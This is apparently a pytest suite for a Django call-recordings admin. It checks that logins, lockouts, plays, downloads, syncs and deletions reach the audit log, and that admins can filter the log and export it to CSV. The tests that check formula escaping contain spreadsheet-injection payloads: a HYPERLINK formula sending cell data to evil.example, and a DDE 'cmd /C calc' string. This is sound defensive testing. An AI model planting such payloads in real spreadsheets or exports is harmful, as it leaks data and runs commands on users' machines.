"""The audit log in the admin: every kind of event the issue names is written by the real flows; admins filter it by
who, action, provider and date, and export a selection as CSV whose cells cannot become formulas."""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import timedelta
from urllib.parse import parse_qsl

import pytest
from django.contrib.auth.models import Group, Permission
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from recordings.csvsafe import FORMULA_STARTS, SafeWriter, csv_lines, safe_cell
from recordings.models import AuditEvent, Job, ProviderAccount, Recording
from recordings.providers import adapter_for
from recordings.roles import ADMINS
from recordings.services.actions import recordings_job
from recordings.services.audit import audit_record
from recordings.services.sync import account_sync
from tests.helpers import FAST
from tests.jobs.conftest import Runner
from tests.test_admin_accounts import form_data

from .conftest import drain

CHANGELIST = reverse("admin:recordings_auditevent_changelist")
# The events the issue names, as AuditEvent actions.
EVENTS = {
    "login": AuditEvent.Action.LOGIN,
    "login failure": AuditEvent.Action.LOGIN_FAILED,
    "lockout": AuditEvent.Action.LOCKED_OUT,
    "credential change": AuditEvent.Action.CREDENTIAL_CHANGE,
    "play": AuditEvent.Action.PLAY,
    "download": AuditEvent.Action.DOWNLOAD,
    "export": AuditEvent.Action.EXPORT,
    "deletion": AuditEvent.Action.DELETE,
    "transcription": AuditEvent.Action.TRANSCRIBE,
    "sync": AuditEvent.Action.SYNC,
}
NEW_PASSWORD = "rotated-Secret-42"


def untranscribed(account, *, besides: Recording) -> Recording:
    for recording in Recording.objects.filter(account=account, status="available", duration__gt=20).exclude(
        pk=besides.pk
    ):
        if adapter_for(account, policy=FAST).get_recording(recording)["transcription"]["status"] == "none":
            return recording
    raise AssertionError("no recording without a transcription")


@pytest.fixture
def history(world, users, clients, client, sandbox):
    """Each kind of event, done the way people do it: logins, playing, downloading, exporting, admin jobs."""
    account, recording = world.account, world.recording
    run = Runner()
    try:
        client.post(reverse("login"), {"username": "supervisor", "password": "pw"}, REMOTE_ADDR="192.0.2.1")
        stranger = Client()
        for _ in range(5):
            stranger.post(reverse("login"), {"username": "exporter", "password": "guess"}, REMOTE_ADDR="192.0.2.66")
        drain(clients["supervisor"].get(reverse("recording_audio", args=[recording.pk]), HTTP_RANGE="bytes=0-99"))
        drain(clients["exporter"].get(reverse("recording_download", args=[recording.pk])))
        clients["exporter"].post(reverse("exports"), {"scope": "selected", "call": [recording.call_id]})
        account_sync(account=account, actor=users["admin"])
        others = Recording.objects.filter(account=account, status="available").exclude(pk=recording.pk)
        to_delete = others.order_by("-duration").first()
        recordings_job(kind=Job.Kind.DELETE, recordings=Recording.objects.filter(pk=to_delete.pk), actor=users["admin"])
        to_transcribe = untranscribed(account, besides=to_delete)
        recordings_job(
            kind=Job.Kind.TRANSCRIBE, recordings=Recording.objects.filter(pk=to_transcribe.pk), actor=users["admin"]
        )
        run(max_tasks=3)  # the deletion, the transcription's request and its first look
        sandbox.advance_clock(30)
        run()
        data = form_data("bandwidth", account.name, {"username": "", "password": NEW_PASSWORD}, account.options)
        data["base_url"] = account.base_url
        data.pop("provider")
        change = reverse("admin:recordings_provideraccount_change", args=[account.pk])
        assert clients["admin"].post(change, data).status_code == 302
        yield world
    finally:
        sandbox.reset()


def test_every_event_the_issue_names_is_an_audit_action():
    assert set(EVENTS.values()) <= set(AuditEvent.Action.values)


def test_each_kind_of_event_is_written_with_who_and_from_where(history, users):
    for name, action in EVENTS.items():
        assert AuditEvent.objects.filter(action=action).exists(), name
    login = AuditEvent.objects.get(action=AuditEvent.Action.LOGIN, client_ip="192.0.2.1")
    assert login.actor_username == "supervisor"
    locked = AuditEvent.objects.get(action=AuditEvent.Action.LOCKED_OUT)
    assert (locked.details["username"], locked.client_ip) == ("exporter", "192.0.2.66")
    assert AuditEvent.objects.filter(action=AuditEvent.Action.LOGIN_FAILED).count() == 5
    assert AuditEvent.objects.get(action=AuditEvent.Action.PLAY).actor_username == "supervisor"
    assert AuditEvent.objects.get(action=AuditEvent.Action.DOWNLOAD).actor_username == "exporter"
    assert AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT, actor_username="exporter").exists()
    for action in (AuditEvent.Action.DELETE, AuditEvent.Action.TRANSCRIBE, AuditEvent.Action.SYNC):
        events = AuditEvent.objects.filter(action=action, actor_username="admin", provider="bandwidth")
        assert events.exists(), action
    assert AuditEvent.objects.get(action=AuditEvent.Action.DELETE).details["outcome"] == "succeeded"
    assert AuditEvent.objects.get(action=AuditEvent.Action.TRANSCRIBE).details["outcome"] == "succeeded"
    change = AuditEvent.objects.get(action=AuditEvent.Action.CREDENTIAL_CHANGE)
    assert change.details == {"fields": ["password"], "created": False}
    assert all(NEW_PASSWORD not in str(event.details) for event in AuditEvent.objects.all())


def listed(clients, **params) -> list[AuditEvent]:
    response = clients["admin"].get(CHANGELIST, params)
    assert response.status_code == 200, response.get("Location")
    return list(response.context["cl"].queryset)


def test_admins_filter_the_log_by_who_action_provider_and_date(history, users, clients):
    page = clients["admin"].get(CHANGELIST).content.decode()
    for title in ("By who", "By action", "By provider", "By created at"):
        assert title in page, title
    assert 'href="?actor__id__exact=' in page

    by_who = listed(clients, actor__id__exact=users["supervisor"].pk)
    assert by_who and {e.actor_username for e in by_who} == {"supervisor"}
    by_action = listed(clients, action="play")
    assert by_action and {e.action for e in by_action} == {"play"}
    by_provider = listed(clients, provider="bandwidth")
    assert by_provider and {e.provider for e in by_provider} == {"bandwidth"}
    assert len(by_provider) < AuditEvent.objects.count()  # logins have no provider

    moved = AuditEvent.objects.create(
        action=AuditEvent.Action.PLAY, actor_username="old", created_at=timezone.now() - timedelta(days=400)
    )
    past_week = re.search(r'<a href="\?([^"]+)"[^>]*>Past 7 days</a>', page).group(1)
    recent = listed(clients, **dict(parse_qsl(html.unescape(past_week))))
    assert moved not in recent and recent
    by_year = listed(clients, created_at__year=moved.created_at.year)
    assert moved in by_year
    combined = listed(clients, actor__id__exact=users["admin"].pk, action="sync", provider="bandwidth")
    assert combined and all((e.actor_username, e.action) == ("admin", "sync") for e in combined)


def export(clients, **data):
    payload = {"action": "export_csv", "index": 0, **data}
    response = clients["admin"].post(CHANGELIST, payload)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="audit-log_')
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_admins_export_a_selection_as_csv_and_it_is_audited(history, clients):
    chosen = list(AuditEvent.objects.filter(action__in=["play", "download"]))
    rows = export(clients, _selected_action=[e.pk for e in chosen])
    header, body = rows[0], rows[1:]
    assert header == [
        "time_utc", "user", "action", "target_type", "target_id", "target", "provider", "client_address", "details",
    ]  # fmt: skip
    assert sorted(row[2] for row in body) == ["download", "play"]
    play = next(row for row in body if row[2] == "play")
    assert play[1] == "supervisor" and play[3] == "recording" and play[4] == str(history.recording.pk)
    exported = AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT, actor_username="admin")
    assert exported.get().details == {"format": "csv", "of": "audit log"}


def test_select_all_exports_every_row_of_the_filtered_list(history, clients):
    total = AuditEvent.objects.filter(action="login_failed").count()
    rows = export(clients, select_across=1, _selected_action=[AuditEvent.objects.first().pk])
    assert len(rows) - 1 == AuditEvent.objects.count()  # every row, the export's own (written first) included
    url = f"{CHANGELIST}?action=login_failed"
    response = clients["admin"].post(
        url, {"action": "export_csv", "index": 0, "select_across": 1, "_selected_action": [1]}
    )
    body = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode()[1:])))[1:]
    assert len(body) == total == 5 and {row[2] for row in body} == {"login_failed"}
    assert all(NEW_PASSWORD not in cell for row in body for cell in row)


def test_csv_cells_cannot_become_formulas(db, users, clients):
    account = ProviderAccount.objects.create(
        name='=HYPERLINK("http://evil.example/?"&A1,"x")', provider="bandwidth", credentials={}, options={}
    )
    event = audit_record(action=AuditEvent.Action.LOGIN_FAILED, target=account, details={"username": "@SUM(1+1)"})
    rows = export(clients, _selected_action=[event.pk])
    cell = rows[1][5]
    assert cell == "'" + str(account)
    assert rows[1][8].startswith("{")  # JSON details start with a brace: nothing to escape


def test_an_admin_without_the_audit_permission_sees_no_log_and_exports_nothing(history, clients):
    group = Group.objects.get(name=ADMINS)
    group.permissions.remove(Permission.objects.get(codename="view_audit_log"))
    assert clients["admin"].get(CHANGELIST).status_code == 403
    response = clients["admin"].post(CHANGELIST, {"action": "export_csv", "index": 0, "_selected_action": [1]})
    assert response.status_code == 403


# -- csvsafe: the helper exports share ---------------------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_safe_cell_defuses_every_formula_start(start):
    assert safe_cell(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"


ORDINARY = [(None, ""), ("", ""), ("Ada", "Ada"), (65.0, "65.0"), (-3, "'-3"), ("+15550102030", "'+15550102030")]


@pytest.mark.parametrize("value, cell", ORDINARY)
def test_safe_cell_of_ordinary_values(value, cell):
    assert safe_cell(value) == cell


def test_safe_writer_and_csv_lines_escape_every_cell():
    buffer = io.StringIO()
    SafeWriter(buffer).writerows([["=1+1", "ok"], ["@x", "\tt"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'=1+1", "ok"], ["'@x", "'\tt"]]
    lines = list(csv_lines([["h1", "h2"], ["-1", "a,b"]]))
    assert lines[0] == "\ufeff"
    assert "".join(lines[1:]) == 'h1,h2\r\n\'-1,"a,b"\r\n'
    assert list(csv_lines([["x"]], bom=False)) == ["x\r\n"]


def test_deleting_an_account_in_the_admin_is_audited(db, users, clients):
    account = ProviderAccount.objects.create(name="Unused Truto", provider="truto", credentials={"token": "t-Secret"})
    url = reverse("admin:recordings_provideraccount_delete", args=[account.pk])
    assert clients["admin"].post(url, {"post": "yes"}).status_code == 302
    assert not ProviderAccount.objects.filter(pk=account.pk).exists()
    event = AuditEvent.objects.get(action=AuditEvent.Action.ACCOUNT_CHANGE)
    assert (event.actor_username, event.target_id) == ("admin", str(account.pk))
    assert event.details == {"deleted": True, "name": "Unused Truto"}
